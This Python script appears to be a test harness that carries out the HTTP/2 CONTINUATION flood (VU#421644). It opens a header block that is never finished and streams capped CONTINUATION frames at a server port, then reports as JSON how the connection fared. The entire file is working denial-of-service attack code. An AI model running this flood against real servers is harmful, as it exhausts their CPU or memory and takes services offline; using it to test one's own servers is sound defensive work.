"""CONTINUATION flood (2024, VU#421644): a HEADERS frame without END_HEADERS, followed by
CONTINUATION frames that never end the header block, either empty (CPU) or large (memory: the
block outgrows any header list size).

Prints one JSON object: the connection's fate and how many frames and bytes went out first.
"""

import argparse
import time

import h2peer


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--token", default=None)
    parser.add_argument("--payload", type=int, default=0, help="bytes of each CONTINUATION frame (<= 16384)")
    parser.add_argument("--frames", type=int, default=200000, help="hard cap on CONTINUATION frames")
    parser.add_argument("--max-bytes", type=int, default=256 << 20, help="hard cap on bytes sent")
    parser.add_argument("--seconds", type=float, default=10.0)
    args = h2peer.arguments(parser)
    payload_size = max(0, min(args.payload, 16384))

    peer = h2peer.Peer(args.port)
    peer.start()
    peer.acknowledge_settings()
    block = peer.header_block(h2peer.request_headers(args.port, "/v1/continuation", token=args.token))
    # The header block starts for real and is never finished.
    peer.send(h2peer.frame(h2peer.HEADERS, h2peer.END_STREAM, 1, block))
    # Filler for the block: a literal header field whose value never ends, then padding bytes.
    continuation = h2peer.frame(h2peer.CONTINUATION, 0, 1, b"\x00" * payload_size)
    per_send = max(1, min(1024, (1 << 18) // len(continuation)))
    sent_frames = 0
    sent_bytes = 0
    deadline = time.monotonic() + args.seconds
    while sent_frames < args.frames and sent_bytes < args.max_bytes and time.monotonic() < deadline:
        count = min(per_send, args.frames - sent_frames)
        if not peer.send(continuation * count):
            break
        sent_frames += count
        sent_bytes += len(continuation) * count
        if not peer.poll(0) or peer.goaway:
            break
    peer.finish(args.hold_file, 3.0, lambda: {
        "frames_sent": sent_frames,
        "bytes_sent": sent_bytes,
        "payload": payload_size,
        "responses": len(peer.statuses),
    })


if __name__ == "__main__":
    main()
